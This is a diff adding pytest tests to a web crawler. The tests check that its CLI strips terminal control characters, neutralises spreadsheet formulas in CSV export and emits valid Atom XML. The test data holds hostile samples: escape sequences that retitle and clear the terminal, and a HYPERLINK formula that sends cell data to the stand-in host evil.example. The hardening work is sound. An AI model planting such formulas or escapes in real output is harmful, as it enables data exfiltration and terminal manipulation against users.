@@ -122,3 +122,86 @@ def test_spider_site_url_never_raises_and_moves_only_npi_links_to_the_base_host(
 
     spider = NpiSpider(base_url="http://127.0.0.1:8080/")
     assert spider.site_url(url) == expected
+
+
+# -- one gate per medium: the terminal, a spreadsheet, XML (issue 23: 7, 9, 15) -----------------------
+
+ESCAPES = "\x1b]0;owned\x07 \x1b[2J\x9b31m"  # retitle the window, clear the screen, an 8-bit CSI
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """A replica whose pages and PDFs carry terminal escapes, a formula and XML-invalid
+    characters, crawled over HTTP as a user would."""
+    from tests.conftest import run_cli
+    from tests.site import ReplicaServer, generate_site
+
+    site = generate_site(seed=1)
+    article = next(a for a in site.live() if a.lang == "ja" and "policy" in a.sections and a.pdf_texts)
+    article.title = f"{FORMULA} {ESCAPES} 半導体 \ufffe\uffff"
+    article.blocks[0] = ("p", f"{ESCAPES}本文 半導体")
+    pdf = next(iter(article.pdf_texts))
+    article.pdf_texts[pdf] = f"{ESCAPES} hostilepdf 半導体"
+    folder = tmp_path_factory.mktemp("hostile")
+    db = str(folder / "npi.db")
+    with ReplicaServer(site) as replica:
+        assert run_cli("crawl", "--db", db, "--base-url", replica.url).returncode == 0
+        url = replica.url.rstrip("/") + article.path
+    rules = folder / "rules.toml"
+    rules.write_text('[[rule]]\nname = "chips"\nany = ["hostilepdf", "本文"]\n', encoding="utf-8")
+    return {"db": db, "url": url, "rules": str(rules)}
+
+
+def test_no_command_writes_a_control_character_to_the_terminal(hostile):
+    from tests.conftest import run_cli
+
+    db = ["--db", hostile["db"]]
+    commands = [
+        ["search", "hostilepdf", *db],
+        ["search", "本文", *db, "--format", "csv"],
+        ["search", "半導体", *db, "--format", "json"],
+        ["search", "--fts", "hostilepdf OR 本文", *db],
+        ["rules", "check", hostile["rules"], *db],
+        ["snapshot", hostile["url"], "--format", "text", *db],
+        ["history", hostile["url"], *db],
+        ["status", *db],
+        ["export", "--format", "csv", *db],
+    ]
+    for args in commands:
+        for columns in ("", "80"):  # a pipe, and a terminal 80 columns wide
+            result = run_cli(*args, env={"COLUMNS": columns})
+            assert result.returncode == 0, (args, result.stderr)
+            assert "owned" in result.stdout or "本文" in result.stdout or args[0] == "status", args
+            assert not CONTROL.search(result.stdout + result.stderr), (args, CONTROL.findall(result.stdout))
+
+
+def test_csv_cells_never_start_a_formula(hostile):
+    import csv
+    import io
+
+    from npi_crawler.cli.research import spreadsheet_safe
+    from tests.conftest import run_cli
+
+    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert spreadsheet_safe(value) == "'" + value
+    assert spreadsheet_safe("半導体 = chips") == "半導体 = chips" and spreadsheet_safe(-1.5) == -1.5
+    for args in (["export", "--format", "csv"], ["search", "本文", "--format", "csv"]):
+        result = run_cli(*args, "--db", hostile["db"])
+        titles = [row["title"] for row in csv.DictReader(io.StringIO(result.stdout))]
+        assert any(t.startswith("'" + FORMULA) for t in titles), args
+        assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)
+
+
+def test_the_atom_feed_holds_no_xml_invalid_character(hostile):
+    import feedparser
+    from lxml import etree
+
+    from tests.conftest import run_cli
+
+    result = run_cli("feed", "--section", "policy", "--db", hostile["db"])
+    assert result.returncode == 0 and "Traceback" not in result.stderr
+    etree.fromstring(result.stdout.encode("utf-8"))  # well-formed XML
+    titles = [e.title for e in feedparser.parse(result.stdout).entries]
+    assert any(t.startswith(FORMULA) and t.endswith("半導体") for t in titles)
